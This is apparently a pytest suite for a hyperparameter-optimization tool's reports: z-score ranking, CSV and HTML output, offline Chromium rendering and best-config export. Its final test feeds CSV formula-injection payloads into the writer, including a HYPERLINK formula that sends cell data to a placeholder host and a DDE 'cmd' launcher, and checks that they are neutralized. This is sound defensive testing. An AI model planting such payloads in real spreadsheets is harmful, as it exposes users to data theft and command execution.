"""Reports over real (tiny) studies: Z-scores, CSV, HTML in a real browser, the best config out."""

import json
import os
import shutil
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
from rich.console import Console

from hpo import load_study
from hpo.results.tables import add_scores, studies_frame, trials_frame, zscore
from hpo.study.loop import run_study

quiet = Console(quiet=True)
CHROMIUM = "/usr/bin/chromium"


def hpo(*args, cwd=None):
    return subprocess.run(
        [sys.executable, "-m", "hpo.cli", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "HF_HUB_OFFLINE": "1", "COLUMNS": "160"},
        timeout=600,
    )


def test_zscore_population_std_and_constants():
    z = zscore(pd.Series([1.0, 2.0, 3.0, np.nan]))
    assert z.iloc[:3].mean() == pytest.approx(0) and z.iloc[:3].std(ddof=0) == pytest.approx(1)
    assert np.isnan(z.iloc[3])
    assert zscore(pd.Series([5.0, 5.0])).tolist() == [0.0, 0.0]  # constant: 0, not NaN
    assert zscore(pd.Series([998.8] * 7)).tolist() == [0.0] * 7  # whose float mean is not exactly 998.8


def test_rank_follows_the_objective_when_the_metrics_agree():
    df = pd.DataFrame(
        {
            "direction": "minimize",
            "objective": [0.9, 0.2, 0.5, 0.7],
            "eval_accuracy": [0.6, 0.95, 0.8, 0.7],
            "eval_f1_macro": [0.55, 0.9, 0.8, 0.65],
        }
    )
    scored = add_scores(
        df,
        {"objective": (True, True), "eval_accuracy": (True, True), "eval_f1_macro": (True, True)},
        oriented=("objective",),
    )
    assert scored.sort_values("rank")["objective"].tolist() == [0.2, 0.5, 0.7, 0.9]
    assert (scored["z_objective"] > 0).tolist() == [False, True, True, False]  # oriented: a low loss scores high


@pytest.fixture(scope="module")
def two_studies(tmp_path_factory, tiny_model):
    """The same tiny study as a full fine-tune and as LoRA, in one SQLite file."""
    import yaml

    from tests.conftest import study_dict

    folder = tmp_path_factory.mktemp("reports")
    full = folder / "full.yaml"
    full.write_text(
        yaml.safe_dump(
            sort_keys=False,
            data=study_dict(
                tiny_model,
                study="full",
                n_trials=4,
                storage=f"sqlite:///{folder}/s.db",
                pruner={"name": "median", "n_startup_trials": 2},
            ),
        )
    )
    lora = folder / "lora.yaml"
    lora.write_text(
        yaml.safe_dump(
            sort_keys=False,
            data=study_dict(
                tiny_model,
                study="lora",
                n_trials=3,
                storage=f"sqlite:///{folder}/s.db",
                model={"name": str(tiny_model), "lora": {"target_modules": ["query", "value"]}},
                search_space={
                    "learning_rate": {"type": "float", "low": 1e-3, "high": 1e-2, "log": True},
                    "r": {"type": "categorical", "choices": [2, 4]},
                    "lora_alpha": {"derive": "2 * r"},
                },
            ),
        )
    )
    for path in (full, lora):
        run_study(load_study(path), quiet)
    return folder, full, lora


def test_report_csvs_have_unit_zscores(two_studies):
    folder, full, lora = two_studies
    result = hpo("report", full, lora, "--csv", folder / "out" / "trials.csv", "--html", folder / "out" / "r.html")
    assert result.returncode == 0, result.stderr
    trials = pd.read_csv(folder / "out" / "trials.csv")
    studies = pd.read_csv(folder / "out" / "trials.studies.csv")
    assert set(trials["study"]) == {"full", "lora"} and len(trials) == 7
    assert {"params_learning_rate", "params_r", "params_lora_alpha", "z_objective", "score", "rank"} <= set(
        trials.columns
    )
    for table in (trials, studies):
        for column in [c for c in table.columns if c.startswith("z_")]:
            values = table[column].dropna()
            if values.abs().sum() == 0:  # a constant metric (e.g. device memory) is all zeros
                continue
            assert values.mean() == pytest.approx(0, abs=1e-9), column
            assert values.std(ddof=0) == pytest.approx(1), column
    assert (trials.dropna(subset=["params_r"])["params_lora_alpha"] == 2 * trials["params_r"].dropna()).all()
    assert set(studies.columns) >= {
        "n_complete",
        "n_pruned",
        "n_failed",
        "best",
        "median",
        "steps_spent",
        "steps_saved_by_pruning",
        "best_params",
        "z_best",
        "score",
        "rank",
    }
    assert "top 10 trials" in result.stdout


def test_html_report_renders_offline_in_chromium(two_studies, tmp_path):
    if not shutil.which(CHROMIUM):
        if os.environ.get("CI"):
            pytest.fail("CI must install chromium (apt) for the browser tests")
        pytest.skip("Debian chromium is not installed")
    from playwright.sync_api import sync_playwright

    _folder, full, lora = two_studies
    page_path = tmp_path / "report.html"
    assert hpo("report", full, lora, "--html", page_path, "--csv", tmp_path / "t.csv").returncode == 0
    requests = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        )
        context = browser.new_context(offline=True)
        page = context.new_page()
        page.set_default_timeout(120_000)  # generous on a busy machine
        page.on("request", lambda r: requests.append(r.url))
        page.goto(page_path.as_uri())
        page.wait_for_selector(".plotly-graph-div .main-svg")
        titles = page.locator(".gtitle").evaluate_all("els => els.map(e => e.textContent)")  # SVG text
        graphs = page.locator(".plotly-graph-div").count()
        page.screenshot(path=str(tmp_path / "report.png"))
        browser.close()
    assert graphs >= 11  # 5 plots per study + the side-by-side history
    expected = [
        "Optimization history",
        "Intermediate values",
        "Parameter importances (fANOVA)",
        "Parallel coordinates",
        "Slices",
        "Optimization histories",
    ]
    missing = [e for e in expected if not [t for t in titles if str(t).startswith(e)]]
    assert not missing, titles
    assert all(url.startswith(("file:", "data:")) for url in requests), requests


def test_best_json_loads_into_training_arguments(two_studies, tmp_path):
    from transformers import TrainingArguments

    _folder, _full, lora = two_studies
    result = hpo("best", lora, "-o", tmp_path / "best.json")
    assert result.returncode == 0, result.stderr
    args = TrainingArguments(**json.loads((tmp_path / "best.json").read_text()))
    rest = json.loads((tmp_path / "best.model.json").read_text())
    assert 1e-3 <= args.learning_rate <= 1e-2 and rest["trial"] >= 0
    assert args.warmup_steps == 0.1  # warmup_ratio from train:, under its transformers 5 name
    assert rest["lora"]["lora_alpha"] == 2 * rest["lora"]["r"] and rest["task"] == "sequence-classification"


def test_train_best_saves_model_and_card(two_studies):
    folder, full, _lora = two_studies
    result = hpo("train", full, "--best", "--all-data")
    assert result.returncode == 0, result.stderr
    final = folder / "outputs" / "full" / "final_model"
    assert (final / "model.safetensors").exists() and (final / "tokenizer.json").exists()
    card = (final / "README.md").read_text()
    assert "trial" in card and "train + eval" in card and "learning_rate" in card
    assert json.loads((final / "training_args.json").read_text())["num_train_epochs"] == 2
    rest = json.loads((final / "training_args.model.json").read_text())  # the knobs and LoRA settings it ran with
    assert rest["study"] == "full" and rest["lora"] is None and rest["knobs"] == {}


def test_report_on_a_study_never_run_creates_nothing(write_study):
    path = write_study()
    result = hpo("report", path)
    assert result.returncode == 2 and "run `hpo run" in result.stderr
    assert not path.with_suffix(".db").exists()


def _study(name, task, metric, direction, values, pruned=()):
    """An in-memory study of made-up trials: ``values`` complete, ``pruned`` stopped at that intermediate value."""
    import optuna
    from optuna.trial import TrialState, create_trial

    study = optuna.create_study(study_name=name, direction=direction)
    study.set_user_attr("config", {"task": task, "objective": {"metric": metric, "direction": direction}})
    for v in values:
        study.add_trial(create_trial(value=v, intermediate_values={10: v}, user_attrs={"eval_accuracy": 0.5}))
    for v in pruned:
        study.add_trial(create_trial(state=TrialState.PRUNED, value=v, intermediate_values={2: v}))  # as optuna's tell
    return study


def test_a_low_f1_is_never_ranked_above_the_best_loss():
    # A loss (minimized) and a macro F1 of 0.20 (maximized) in one report.
    loss = _study("loss", "sequence-classification", "eval_loss", "minimize", [0.3, 0.5, 0.9])
    f1 = _study("f1", "sequence-classification", "eval_f1_macro", "maximize", [0.20, 0.18])
    trials = trials_frame([loss, f1])
    by_metric = {m: rows.sort_values("objective")["rank"].tolist() for m, rows in trials.groupby("metric")}
    assert by_metric == {"eval_loss": [1, 2, 3], "eval_f1_macro": [2, 1]}  # ranked within a metric, never across
    for _, rows in trials.groupby("metric"):  # each z compares one metric: mean 0, std 1 there
        assert rows["z_objective"].mean() == pytest.approx(0) and rows["z_objective"].std(ddof=0) == pytest.approx(1)
    studies = studies_frame([loss, f1], trials).set_index("study")
    assert studies["rank"].tolist() == [1, 1] and studies["z_best"].tolist() == [0, 0]  # alone in their groups
    assert studies.loc["loss", ["task", "metric", "direction"]].tolist() == [
        "sequence-classification",
        "eval_loss",
        "minimize",
    ]


def test_rank_one_is_the_trial_hpo_best_exports():
    # The hostile reviewer's case: trial 1 has the better accuracy and F1, trial 0 the better loss. The
    # objective decides what is best; the composite score stays beside it as a second opinion.
    import optuna
    from optuna.trial import create_trial

    study = optuna.create_study(direction="minimize")
    study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
    for loss, acc, f1 in ((0.50, 0.5, 0.3), (0.51, 0.9, 0.9), (0.90, 0.4, 0.4)):
        study.add_trial(create_trial(value=loss, user_attrs={"eval_accuracy": acc, "eval_f1_macro": f1}))
    trials = trials_frame([study]).set_index("trial")
    assert trials["rank"].tolist() == [1, 2, 3] and trials["rank"].idxmin() == study.best_trial.number
    assert trials["score"].idxmax() == 1  # the score alone would have named trial 1


def test_ties_and_diverged_values_rank_as_hpo_best_picks():
    # Three trials tie at accuracy 0.5: the earliest is the best everywhere (Optuna's own pick among ties
    # is whatever the database lists first). A diverged perplexity of 1e304 overflowed the variance and
    # gave every trial rank 1; an infinite one left every trial unranked.
    import optuna
    from optuna.trial import create_trial

    from hpo.study.storage import best_trial

    tied = optuna.create_study(direction="maximize")
    tied.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_accuracy"}})
    for acc, f1 in ((0.4, 0.9), (0.5, 0.1), (0.5, 0.9), (0.5, 0.5)):
        tied.add_trial(create_trial(value=acc, user_attrs={"eval_f1_macro": f1}))
    ranks = trials_frame([tied]).set_index("trial")["rank"]
    assert ranks.idxmin() == best_trial(tied).number == 1 and ranks.tolist() == [4, 1, 2, 3]

    for worst in (1e304, float("inf")):
        lm = optuna.create_study(direction="minimize")
        lm.set_user_attr("config", {"task": "causal-lm", "objective": {"metric": "eval_perplexity"}})
        for v in (12.0, worst, 9.0):
            lm.add_trial(create_trial(value=v))
        trials = trials_frame([lm]).set_index("trial")
        assert trials["rank"].tolist() == [2, 3, 1], worst
        assert trials.loc[[0, 2], "z_objective"].notna().all()  # finite, not NaN from an overflowed variance


def test_the_same_metric_of_two_tasks_is_not_compared():
    # A causal-lm's eval_loss (next-token cross-entropy, ~3) and a classifier's (~0.6) share a name, not a scale.
    lm = _study("lm", "causal-lm", "eval_loss", "minimize", [2.9, 3.4])
    clf = _study("clf", "sequence-classification", "eval_loss", "minimize", [0.7, 0.6])
    trials = trials_frame([lm, clf])
    assert trials.groupby("study")["rank"].apply(sorted).to_dict() == {"clf": [1, 2], "lm": [1, 2]}
    from hpo.results.tables import by_group

    assert [label for label, _ in by_group(trials)] == [
        "task=causal-lm, metric=eval_loss, direction=minimize",
        "task=sequence-classification, metric=eval_loss, direction=minimize",
    ]


def test_pruned_trials_are_listed_unranked_unless_asked():
    # A pruned trial's value is its last intermediate one: an early 0.1 is not a final loss better than 0.3.
    study = _study("s", "sequence-classification", "eval_loss", "minimize", [0.3, 0.5], pruned=[0.1])
    trials = trials_frame([study]).set_index("trial")
    assert trials["rank"].tolist()[:2] == [1, 2] and pd.isna(trials.loc[2, "rank"])
    assert trials["final"].tolist() == [True, True, False] and trials.loc[2, "state"] == "pruned"
    assert trials.loc[2, ["score", "z_objective"]].isna().all()
    assert trials.loc[[0, 1], "z_objective"].tolist() == pytest.approx([1, -1])  # over the complete trials alone
    summary = studies_frame([study], trials.reset_index()).iloc[0]
    assert (summary["count"], summary["min"], summary["max"]) == (2, 0.3, 0.5)  # complete trials only
    assert (summary["mean"], summary["std"]) == pytest.approx((0.4, 0.1414213))  # pandas' std: ddof=1

    included = trials_frame([study], include_pruned=True).set_index("trial")
    assert included["rank"].tolist() == [2, 3, 1] and not included.loc[2, "final"]  # ranked, and still marked


def test_report_ranks_each_objective_apart(write_study, tmp_path):
    # Real studies: one minimizes eval_loss (a good trial, then one that cannot learn and is pruned),
    # one maximizes eval_f1_macro.
    from hpo.study.storage import open_study

    loss = write_study(
        "loss.yaml",
        study="loss",
        n_trials=2,
        pruner={"name": "median", "n_startup_trials": 1},
        search_space={"learning_rate": {"type": "categorical", "choices": [3e-3, 1e-9]}},
    )
    cfg = load_study(loss)
    for lr in (3e-3, 1e-9):
        open_study(cfg).enqueue_trial({"learning_rate": lr})
    run_study(cfg, quiet)
    f1 = write_study("f1.yaml", study="f1", n_trials=2, objective={"metric": "eval_f1_macro"})
    run_study(load_study(f1), quiet)

    out = tmp_path / "out"
    result = hpo("report", loss, f1, "--csv", out / "t.csv", "--html", out / "r.html")
    assert result.returncode == 0, result.stderr
    trials, studies = pd.read_csv(out / "t.csv"), pd.read_csv(out / "t.studies.csv")
    ranked = trials[trials["state"] == "complete"]
    assert ranked.groupby("metric")["rank"].apply(sorted).to_dict() == {"eval_loss": [1], "eval_f1_macro": [1, 2]}
    pruned = trials[trials["state"] == "pruned"]
    assert len(pruned) == 1 and pruned[["score", "rank"]].isna().all(axis=None) and not pruned["final"].any()
    assert studies.set_index("study")["rank"].to_dict() == {"loss": 1, "f1": 1}
    assert {"task", "count", "mean", "std", "min", "max"} <= set(studies.columns)
    assert studies.set_index("study").loc["f1", "count"] == 2
    for metric in ("eval_loss", "eval_f1_macro"):  # a terminal table and an HTML table per objective
        label = f"task=sequence-classification, metric={metric}"
        assert result.stdout.count(label) == 2, result.stdout
        assert (out / "r.html").read_text().count(label) == 2

    result = hpo("report", loss, f1, "--csv", out / "t.csv", "--html", out / "r.html", "--include-pruned")
    assert result.returncode == 0, result.stderr
    trials = pd.read_csv(out / "t.csv")
    assert trials[trials["metric"] == "eval_loss"]["rank"].notna().all()
    assert "pruned ranked on their last intermediate value" in result.stdout.replace("\n", " ")
    assert "ranked on their last intermediate value" in (out / "r.html").read_text()


def test_the_report_names_a_best_parameter_at_the_edge_of_its_range():
    import optuna
    from optuna.distributions import FloatDistribution
    from optuna.trial import create_trial

    study = optuna.create_study(study_name="edge")
    study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
    lr = FloatDistribution(1e-5, 1e-3, log=True)
    for value, rate in [(0.3, 9.8e-4), (0.5, 1e-4)]:
        study.add_trial(create_trial(value=value, params={"learning_rate": rate}, distributions={"learning_rate": lr}))
    (row,) = studies_frame([study]).to_dict("records")
    assert row["at_edge"].startswith("search_space.learning_rate: the best value 0.00098 is at the high end")


def test_csv_cells_a_spreadsheet_would_run_are_neutralized(tmp_path):
    # Study names and parameter values went into trials.csv raw: `=HYPERLINK(...)` opened in a spreadsheet ran
    # as a formula. Each text cell that starts like one gets a leading ' (OWASP); numbers stay numbers.
    import csv
    import re

    import optuna
    from optuna.distributions import CategoricalDistribution, FloatDistribution
    from optuna.trial import create_trial

    from hpo.results.tables import write_csv

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "＝1"]
    choice = CategoricalDistribution(hostile + ["-0.5", "plain"])
    rate = FloatDistribution(-5.0, 1.0)
    studies = []
    for name in (*hostile[:4], " =1+1"):
        study = optuna.create_study(study_name=name)
        study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
        for i, value in enumerate([*hostile, "-0.5", "plain"]):
            params = {"scheduler": value, "shift": -0.25 * i}
            study.add_trial(
                create_trial(value=-1.5 + i, params=params, distributions={"scheduler": choice, "shift": rate})
            )
        studies.append(study)
    trials, summary = write_csv(trials_frame(studies), studies_frame(studies), tmp_path / "t.csv")
    for path in (trials, summary):
        with path.open(newline="") as f:
            rows = list(csv.reader(f))
        cells = [c for row in rows for c in row]
        formulas = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
        assert all(re.fullmatch(r"-\d+(\.\d+)?", c) for c in formulas), formulas  # negative numbers only
        assert {f"'{name}" for name in (*hostile[:4], " =1+1")} <= set(cells)  # the study column
    rows = pd.read_csv(trials)
    assert rows["objective"].min() == -1.5 and rows["params_shift"].min() == -1.75  # numbers, negative and all
    assert set(pd.read_csv(trials, dtype=str)["params_scheduler"]) == {f"'{v}" for v in hostile} | {"-0.5", "plain"}
